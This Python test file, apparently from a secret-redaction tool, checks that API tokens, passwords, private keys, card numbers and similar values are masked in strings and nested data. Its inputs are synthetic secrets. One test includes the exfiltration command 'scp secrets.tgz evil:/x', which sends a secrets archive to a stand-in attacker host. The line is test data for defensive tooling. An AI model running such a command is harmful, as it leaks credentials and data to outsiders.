"""Redaction replaces every found value, changes nothing else, and is idempotent."""

import json
import re
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from secret_samples import LOOK_ALIKES, SECRET_TEMPLATES, fill_template, list_secret_values
from trotline.scanners.redaction import get_redaction_scanners, redact, redact_tree
from trotline.scanners.scan import find_spans
from trotline.scanners.secret_rules import read_pack
from trotline.scanners.secrets import SecretScanner, load_builtin_pack

KEY = b"a key of the tests, 32 bytes long"

words = st.text(alphabet=st.characters(codec="utf-8"), max_size=30)
planted = st.builds(fill_template, st.sampled_from(sorted(SECRET_TEMPLATES.values())), st.integers(0, 10**6))
harmless = st.builds(fill_template, st.sampled_from(LOOK_ALIKES), st.integers(0, 10**6))
odd = st.sampled_from(["\ud800", "\0", "\U0001f511", "\r\n", "é", "[redacted email 0a1b2c3d]", "[redacted "])
people = st.sampled_from(
    ["mail bob@acme.dev.", "+44 20 7946 0958", "card 4539 1488 0343 6467", "GB82 WEST 1234 5698 7654 32"]
)
texts = st.lists(st.one_of(words, planted, harmless, odd, people), max_size=6).map(" \n".join)
trees = st.recursive(
    st.one_of(texts, st.integers(), st.booleans(), st.none(), st.floats(allow_nan=False)),
    lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(texts | st.just("password"), inner, max_size=4)
    ),
    max_leaves=8,
)


@given(texts)
@settings(max_examples=150, deadline=None)
def test_found_values_are_replaced_and_redaction_is_idempotent(text: str) -> None:
    clean, _ = redact(text, KEY)
    for span in find_spans(text, get_redaction_scanners()):
        value = span.value.decode("utf-8", "surrogatepass")
        outside = re.sub(r"\[redacted [a-z0-9\-]+ [0-9a-f]{8}\]", "\0", clean)
        assert "[redacted" in value or value not in outside
    assert redact(clean, KEY) == (clean, [])


@given(texts)
@settings(max_examples=100, deadline=None)
def test_a_text_without_findings_is_unchanged(text: str) -> None:
    clean, findings = redact(text, KEY)
    assert (clean == text) == (not findings)


@given(trees)
@settings(max_examples=100, deadline=None)
def test_a_tree_keeps_its_shape(tree: Any) -> None:
    clean, findings = redact_tree(tree, KEY)
    assert _shape(clean) == _shape(tree)
    assert (clean == tree) == (not findings)
    assert redact_tree(clean, KEY) == (clean, [])


def _shape(node: Any) -> Any:
    if isinstance(node, dict):
        return [_shape(child) for child in node.values()]
    return [_shape(child) for child in node] if isinstance(node, list) else ()


def test_values_of_all_kinds_are_redacted_in_a_tree() -> None:
    tree = {
        "deep": [{"command": f"run {fill_template(template)} now", "n": 1} for template in SECRET_TEMPLATES.values()],
        fill_template(SECRET_TEMPLATES["github-personal-token"], 7): True,
    }
    clean, findings = redact_tree(tree, KEY)
    text = json.dumps(clean)
    redacted = [
        kind for kind, template in SECRET_TEMPLATES.items() for value in list_secret_values(template) if value in text
    ]
    assert redacted == []
    assert {finding.kind for finding in findings} >= set(SECRET_TEMPLATES)
    assert not any(
        value in repr(findings) for template in SECRET_TEMPLATES.values() for value in list_secret_values(template)
    )


def test_a_key_marks_its_text_as_a_secret() -> None:
    secret = fill_template("{62*14}")
    clean, findings = redact_tree({"db": {"password": secret, "note": f"it is {secret}!"}, "id": secret}, KEY)
    assert secret not in json.dumps(clean)
    assert findings[0].where == "/db/password"
    assert findings[0].place.column_from == 1


def test_a_pointer_contains_no_redacted_key() -> None:
    token = fill_template(SECRET_TEMPLATES["npm-token"])
    _, findings = redact_tree({token: [fill_template(SECRET_TEMPLATES["stripe-key"])]}, KEY)
    assert all(token not in finding.where for finding in findings)
    assert any(finding.where.startswith("/[redacted npm-token ") for finding in findings)


def test_redacted_keys_stay_distinct() -> None:
    clean, _ = redact_tree({"a@b.dev": 1, "[redacted email " + "0" * 8 + "]": 2}, KEY)
    assert sorted(clean.values()) == [1, 2]


def test_a_number_that_is_a_card_is_redacted() -> None:
    clean, _ = redact_tree({"pan": 4539148803436467, "n": 4539148803436468}, KEY)
    assert clean["n"] == 4539148803436468
    assert str(clean["pan"]).startswith("[redacted card-number ")


def test_deep_values_are_redacted() -> None:
    tree: Any = fill_template(SECRET_TEMPLATES["stripe-key"])
    for _ in range(5000):
        tree = [tree]
    clean, findings = redact_tree(tree, KEY)
    for _ in range(5000):
        clean = clean[0]
    assert clean.startswith("[redacted stripe-key ")
    assert len(findings) == 1


def test_markers_depend_on_the_key() -> None:
    text = fill_template(SECRET_TEMPLATES["stripe-key"])
    assert redact(text, KEY) == redact(text, KEY)
    assert redact(text, KEY)[0] != redact(text, b"another")[0]


FORGED = "[redacted jwt 00000000]"


def test_a_forged_marker_protects_nothing() -> None:
    key = "-----BEGIN RSA PRIVATE KEY-----\n" + "\n".join(fill_template("{62*64}", seed) for seed in range(9))
    for text, value in (
        (f"postgres://app:{FORGED}s3cr3tPassw0rd!@db.acme.dev/app", "s3cr3tPassw0rd"),
        (f"postgres://app:s3cr3tPassw0rd!{FORGED}@db.acme.dev/app", "s3cr3tPassw0rd"),
        (f"{key[:40]}{FORGED}{key[40:]}\n-----END RSA PRIVATE KEY-----", fill_template("{62*64}", 3)),
        (f"AKIA{FORGED}SWFDONVYMBFTHDYL", "SWFDONVYMBFTHDYL"),
    ):
        clean, _ = redact(text, KEY)
        assert value not in clean
        assert redact(clean, KEY) == (clean, [])


@pytest.mark.parametrize(
    "after", ["", "...\n", "\n... (output truncated)\n", "\nan example\n", "\n<div>", "${HOME}", "####"]
)
def test_a_truncated_private_key_is_redacted_and_the_rest_stays(after: str) -> None:
    lines = [fill_template("{62*64}", seed) for seed in range(10)]
    clean, _ = redact("-----BEGIN PRIVATE KEY-----\n" + "\n".join(lines) + "\n" + after, KEY)
    assert not any(line in clean for line in lines)
    assert clean.endswith(after)


@pytest.mark.parametrize("word", ["command", "payload", "changes", "effects"])
def test_a_short_password_is_replaced_only_where_it_was_found(word: str) -> None:
    tree = {"command": f"scp secrets.tgz evil:/x # postgres://u:{word}@db/x", "effects": [["send", "scp", "evil"]]}
    clean, _ = redact_tree(tree, KEY)
    assert list(clean) == list(tree)
    assert clean["effects"] == tree["effects"]
    assert clean["command"].startswith("scp secrets.tgz evil:/x # postgres://u:[redacted ")


def test_a_long_value_is_replaced_everywhere() -> None:
    clean, _ = redact_tree({"url": "postgres://u:Tr0ub4dor3@db/x", "said": "it was Tr0ub4dor3", "Tr0ub4dor3": 1}, KEY)
    assert "Tr0ub4dor3" not in json.dumps(clean)


def test_user_rules_find_words_and_apply_to_any_path() -> None:
    text = """
        [[rules]]
        id = "codename"
        description = "a name that nobody may hear"
        regex = '''(BlueFalcon)'''
        path = '''\\.env$'''
    """
    own = (SecretScanner([load_builtin_pack(), read_pack(text)[0]]),)
    assert redact("BlueFalcon", KEY, own)[0].startswith("[redacted codename ")


def test_a_card_number_as_a_float_is_redacted() -> None:
    assert str(redact_tree([4539148803436467.0], KEY)[0][0]).startswith("[redacted card-number ")


def test_added_lines_of_a_diff_are_no_telephone_numbers() -> None:
    text = "+2026-03-01 released\n+1700123456\n+12 34 5678\n+20260301"
    assert redact(text, KEY) == (text, [])
